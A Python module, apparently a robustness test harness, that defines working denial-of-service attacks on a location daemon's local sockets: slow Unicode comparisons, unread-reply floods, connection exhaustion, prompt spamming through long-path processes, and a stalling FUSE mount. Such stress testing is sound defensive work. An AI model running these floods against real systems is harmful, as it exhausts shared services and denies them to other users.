"""The attacks that one user without a grant can carry out: on the daemon, and by NMEA 0183 on locationd-nmea.

Each attack is a function of a Target that continues until the process ends. ATTACKS lists them.
"""

import json
import os
import socket
import subprocess
import time
from pathlib import Path

from flood import Flood
from nmea_attacks import nmea_in, nmea_out

LOCATION = "io.locationd.Location"
MANAGE = "io.locationd.Manage"


class Target:
    """The target of an attack.

    location, manage: the paths of the sockets. connections: the number that the attack may hold. folder: a folder owned
    by the attacker. slow_fuse: the program of `slow-fuse`, or None. done: the number of calls or connections so far.
    """

    def __init__(self, location, manage, connections, folder, slow_fuse):
        self.location, self.manage, self.connections, self.folder = location, manage, connections, folder
        self.slow_fuse = slow_fuse
        self.done = 0

    def flood(self, *floods):
        """Runs floods without end."""
        while True:
            for flood in floods:
                flood.step()
            self.done = sum(flood.sent for flood in floods)


def frame(method, parameters=None, **flags):
    """Returns the bytes of a call. The method may be any text."""
    return json.dumps({"method": method, "parameters": parameters or {}} | flags, ensure_ascii=False).encode() + b"\0"


def combining_marks(target):
    """Sends keys, methods and enum values whose comparison by characters takes seconds."""
    frames = []
    # The largest frames that any daemon reads, and the largest for daemons that read 16 kB.
    for marks in (14_900, 3_900):
        text = "a" + "\u0301" * marks + "\u0316" * marks
        frames += [
            frame(f"{LOCATION}.GetAuthorization", {text: 1}),
            frame(f"{LOCATION}.{text}"),
            frame(f"{text}.GetAuthorization"),
            frame(f"{LOCATION}.RequestAuthorization", {"level": text}),
            frame(f"{LOCATION}.GetRegionState", {"identifier": text}),
            frame("org.varlink.service.GetInterfaceDescription", {"interface": text}),
        ]
    target.flood(Flood(target.location, target.connections, lambda count: frames[count % len(frames)]))


def unread_replies(target):
    """Pipelines calls with long replies, on connections that never read."""
    calls = frame("org.varlink.service.GetInterfaceDescription", {"interface": LOCATION}) * 50
    target.flood(Flood(target.location, target.connections, lambda _: calls, reads=False))


def echoed_names(target):
    """Sends names of 16 to 60 kB, which errors repeat, on connections that never read."""
    frames = [frame("x" * length + ".X") for length in (60_000, 15_900, 30_000, 16_300)]
    target.flood(Flood(target.location, target.connections, lambda count: frames[count % 4], reads=False))


def oneway(target):
    """Sends calls that request no reply."""
    calls = frame(f"{LOCATION}.GetAuthorization", oneway=True) * 200
    target.flood(Flood(target.location, target.connections, lambda _: calls))


def background(target):
    """Calls SetBackground again and again, beside many open streams."""
    changes = [frame(f"{LOCATION}.SetBackground", {"background": value}) * 10 for value in (True, False)]
    stream = frame(f"{LOCATION}.GetAuthorization", more=True)
    streams = target.connections * 3 // 4
    target.flood(
        Flood(target.location, streams, lambda count: stream if count < streams else None),
        Flood(target.location, target.connections - streams, lambda count: changes[count % 2]))


def regions(target):
    """Calls the region methods."""
    calls = []
    for number in range(40):
        region = {"identifier": f"r{number}", "latitude": 48, "longitude": 11, "radius": 100 + number}
        calls += [
            frame(f"{LOCATION}.StartMonitoringRegion", {"region": region}),
            frame(f"{LOCATION}.GetRegionState", {"identifier": f"r{number}"}),
            frame(f"{LOCATION}.ListRegions"),
            frame(f"{LOCATION}.StopMonitoringRegion", {"identifier": f"r{number}"}),
        ]
    target.flood(Flood(target.location, target.connections, lambda count: calls[count % len(calls)] * 4))


def requests(target):
    """Causes prompts of many programs with long paths, while an agent is attached."""
    folder = target.folder
    while len(str(folder)) < 3600:
        folder = folder / ("long " * 45)
    folder.mkdir(parents=True, exist_ok=True)
    call = frame(f"{LOCATION}.RequestAuthorization", {"level": "always", "reason": "because " * 50}, more=True)
    code = f"""
import socket, sys
s = socket.socket(socket.AF_UNIX); s.connect({target.location!r}); s.sendall({call!r}); sys.stdin.read()
"""
    interpreter = os.readlink("/proc/self/exe")
    running = []
    while True:
        program = folder / f"{target.done:0200}"
        os.link(interpreter, program)
        running.append(subprocess.Popen(
            ["python", "-s", "-S", "-B", "-c", code], executable=program, stdin=subprocess.PIPE,
            stderr=subprocess.DEVNULL))
        target.done += 1
        if len(running) >= target.connections:
            end(running.pop(0))


def end(process):
    """Ends a program that waits for the end of its input."""
    process.stdin.close()
    process.kill()
    process.wait()


def connects(target):
    """Opens connections and closes them at once, after nothing, a call, half a frame or a streaming call."""
    connect_and_close(target, target.location, f"{LOCATION}.GetAuthorization")


def manage_connects(target):
    """The same on the management socket, as a user who is not in its group."""
    connect_and_close(target, target.manage, f"{MANAGE}.ListSessions")


def connect_and_close(target, path, method):
    calls = [b"", frame(method), b'{"method":"', frame(method, more=True)]
    while True:
        with socket.socket(socket.AF_UNIX) as opened:
            opened.setblocking(False)
            try:
                opened.connect(path)
                opened.send(calls[target.done % 4])
                target.done += 1
            except OSError:
                time.sleep(0.001)


def idle(target):
    """Holds as many idle connections as the limit allows."""
    target.flood(Flood(target.location, target.connections, lambda _: None))


def manage(target):
    """Opens connections to the management socket up to the descriptor limit, as a member of the socket's group."""
    call = frame(f"{MANAGE}.ListSessions", more=True)
    target.flood(Flood(target.manage, 900, lambda count: call if count % 2 else b"{"))


def strangers(target):
    """Calls the management socket as a user who is not in its group, so that polkit would be asked about each call."""
    call = frame(f"{MANAGE}.ListApps")
    target.flood(Flood(target.manage, 64, lambda _: call))


def slow_fuse(target):
    """Connects from a file system that does not answer while the daemon identifies its client."""
    scratch = target.folder / "fuse"
    scratch.mkdir()
    while True:
        subprocess.run([target.slow_fuse, str(Path(target.location).parent), "2000", "10", scratch, "4"],
                       stdout=subprocess.DEVNULL)
        target.done += 1


ATTACKS = {function.__name__.replace("_", "-"): function for function in [
    combining_marks, unread_replies, echoed_names, oneway, background, regions, requests, connects, idle, manage,
    strangers, manage_connects, slow_fuse, nmea_in, nmea_out,
]}

# The attacks that need the instances of locationd-nmea.
BY_NMEA = {"nmea-in", "nmea-out"}
